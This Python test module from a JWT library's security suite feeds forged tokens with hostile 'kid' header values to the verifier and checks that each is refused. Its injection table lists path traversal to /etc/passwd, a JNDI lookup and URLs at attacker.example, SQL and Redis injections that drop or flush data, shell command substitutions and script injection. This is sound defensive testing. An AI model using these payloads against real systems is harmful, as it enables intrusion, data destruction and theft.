"""Games with `kid`: paths, queries, URLs, lengths, types, other scripts, and other people's keys (RFC 8725 §3.10)."""

from collections.abc import Iterator

from mintkey import Reason
from mintkey.jose import thumbprint
from tests.security.attacks.case import Case, refused
from tests.security.attacks.forge import Forge

__all__ = ["kids"]

_INJECTIONS = {
    "path to an empty file": "/dev/null",
    "path upwards": "../../../../../../etc/passwd",
    "path upwards on Windows": "..\\..\\windows\\win.ini",
    "path, percent-encoded": "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "path, encoded twice": "%252e%252e%252fetc%252fpasswd",
    "path with NUL": "../../public/key.pem\0.jwk",
    "path in the process": "/proc/self/environ",
    "path of a share": "\\\\attacker.example\\share\\key",
    "current directory": "./key",
    "home": "~/.ssh/id_rsa.pub/",
    "file URL": "file:///dev/null",
    "URL": "https://attacker.example/key.pem",
    "scheme-relative URL": "//attacker.example/key.pem",
    "data URL": "data:text/plain,secret",
    "LDAP look-up": "${jndi:ldap://attacker.example/a}",
    "SQL, always true": "' OR '1'='1",
    "SQL, union": "x' UNION SELECT 'c2VjcmV0' --",
    "SQL, second statement": "1; DROP TABLE mintkey_rings; --",
    "SQL, double quotes": '" OR ""="',
    "SQL, comment": "key'/*",
    "SQL, wildcard": "%",
    "SQL, sleep": "1' AND SLEEP(10)='",
    "NoSQL operator": '{"$ne":null}',
    "Redis pattern": "*",
    "Redis pattern for one": "????????",
    "Redis key": "mk:{ring}:default",
    "Redis command": "a\r\nFLUSHALL\r\n",
    "Redis script": "' .. redis.call('FLUSHALL') .. '",
    "shell, pipe": "|/usr/bin/uname",
    "shell, substitution": "$(id)",
    "shell, backticks": "`id`",
    "shell, semicolon": "key; id",
    "template": "{{7*7}}",
    "template of Python": "{0.__class__}",
    "format": "%s%s%n",
    "XPath": "' or '1'='1' or ''='",
    "LDAP filter": "*)(uid=*",
    "markup": "<script>alert(1)</script>",
    "header field": "key\r\nSet-Cookie: a=b",
    "log line": "key\n2026-01-01 INFO accepted",
    "escape sequence": "\x1b[2J",
    "JSON": '","alg":"none',
    "regular expression": "(a+)+$",
    "list in text": "key,other",
    "fragment": "did:example:123#key-1",
    "query": "key?version=1",
    "e-mail address": "key@attacker.example",
}
_OTHER_SCRIPTS = {
    "right-to-left override": "\u202ekey",
    "zero-width space": "key\u200b",
    "byte order mark": "\ufeffkey",
    "combining accent": "ke\u0301y",
    "composed accent": "k\u00e9y",
    "Cyrillic letter": "k\u0435y",
    "full width": "\uff4b\uff45\uff59",
    "Arabic digits": "\u0661\u0662\u0663",
    "emoji": "\U0001f511",
    "dotless i": "k\u0131d",
    "Kelvin sign": "\u212aey",
    "no-break space": "key\u00a0",
    "line separator": "key\u2028",
    "last code point": "\U0010ffff",
}
_OF_GOOD_SHAPE = (
    "0",
    "1",
    "-1",
    "null",
    "none",
    "undefined",
    "__proto__",
    "constructor",
    ".",
    "..",
    "~root",
    "toString",
)


def kids(forge: Forge) -> Iterator[Case]:
    """Every kid stands in a token that the key really signed: what refuses it is the kid."""
    why = "a kid that gets to a file system, a query or a URL finds the attacker's key"
    for name, kid in _INJECTIONS.items():
        yield from _of_bad_shape(forge, name, kid, why)
    why = "two texts that look alike, or become one by normalising"
    for name, kid in _OTHER_SCRIPTS.items():
        yield from _of_bad_shape(forge, name, kid, why)
    yield from _near(forge)
    yield from _lengths(forge)
    yield from _types(forge)
    for kid in _OF_GOOD_SHAPE:
        yield from forge.both(
            f"the kid {kid!r}", Reason.KEY_UNKNOWN, "nobody has it", header={**forge.header, "kid": kid}
        )
    yield from _of_others(forge)


def _of_bad_shape(forge: Forge, name: str, kid: object, why: str) -> Iterator[Case]:
    header = {**forge.header, "kid": kid}
    yield from forge.both(name, Reason.MALFORMED, why, header=header, bare="accepted")


def _near(forge: Forge) -> Iterator[Case]:
    """What trimming, prefixes, cases and normalising would take for the right one."""
    kid = forge.key.kid
    shapeless = {
        "space in front": f" {kid}",
        "space behind": f"{kid} ",
        "newline behind": f"{kid}\n",
        "newline in front": f"\n{kid}",
        "tab behind": f"{kid}\t",
        "NUL behind": f"{kid}\0",
        "slash behind": f"{kid}/",
        "path to it": f"x/../{kid}",
        "padding behind": f"{kid}=",
        "quotes around": f'"{kid}"',
        "list in text": f"{kid},{kid}",
        "percent-encoded": f"%{ord(kid[0]):02x}{kid[1:]}",
        "zero-width joiner behind": f"{kid}\u200d",
        "full width letter": chr(ord("k") + 0xFEE0) + kid[1:],
    }
    why = "kids are compared whole, and not made beautiful before"
    for name, near in shapeless.items():
        yield from _of_bad_shape(forge, f"the kid, {name}", near, why)
    shapely = {
        "but for its last character": kid[:-1],
        "but for its first character": kid[1:],
        "its first eight characters": kid[:8],
        "its first character": kid[0],
        "in other case": kid.swapcase(),
        "twice": kid * 2,
        "backwards": kid[::-1],
        "with a suffix": f"{kid}.pem",
        "with a version": f"{kid}-1",
        "with a dot in front": f".{kid}",
        "a dot": f"{kid}.",
        "a tilde": f"{kid}~",
    }
    for name, near in shapely.items():
        yield from forge.both(f"the kid, {name}", Reason.KEY_UNKNOWN, why, header={**forge.header, "kid": near})


def _lengths(forge: Forge) -> Iterator[Case]:
    for size in (1, 2, 64, 127, 128):
        header = {**forge.header, "kid": "A" * size}
        yield from forge.both(f"{size} characters", Reason.KEY_UNKNOWN, "as long as may be", header=header)
    for size in (0, 129, 256, 1024, 8000):
        yield from _of_bad_shape(forge, f"{size} characters", "A" * size, "longer than any key's, or nothing at all")


def _types(forge: Forge) -> Iterator[Case]:
    why = "what compares as equal, or is made into text, in some language"
    kid = forge.key.kid
    for value in (None, True, False, 0, 1, -1, 1.5, [], [kid], [[kid]], {}, {"kid": kid}, {kid: kid}, [kid, kid]):
        label = repr(value).replace(kid, "KID")
        yield from forge.both(f"kid is {label}", Reason.MALFORMED, why, header={**forge.header, "kid": value})
    without = {name: value for name, value in forge.header.items() if name != "kid"}
    yield from forge.both("no kid", Reason.MALFORMED, "then any key would have to do", header=without, bare="accepted")
    for name in ("KID", "Kid", "kid ", "key_id", "keyid"):
        header = {**without, name: kid}
        yield from forge.both(f"{name!r} instead of kid", Reason.HEADER_UNSUPPORTED, "names have a case", header=header)


def _of_others(forge: Forge) -> Iterator[Case]:
    """Keys that are known here, but did not sign, and keys that signed, but are not known here."""
    why = "a signature proves who signed, and kid who is said to have"
    header = {**forge.header, "kid": forge.other.kid}
    if not forge.is_symmetric:
        stranger = {**forge.header, "kid": thumbprint({"kty": "OKP", "crv": "Ed25519", "x": "A" * 43})}
        token = forge.token(stranger, by_other=True)
        yield refused("another key's token under its own kid", token, Reason.KEY_UNKNOWN, why, bare=_INVALID)
    yield refused("this key's signature under another known kid", forge.token(header), _INVALID, why, bare="accepted")
    yield refused("another key's signature under this kid", forge.token(by_other=True), _INVALID, why)


_INVALID = Reason.SIGNATURE_INVALID
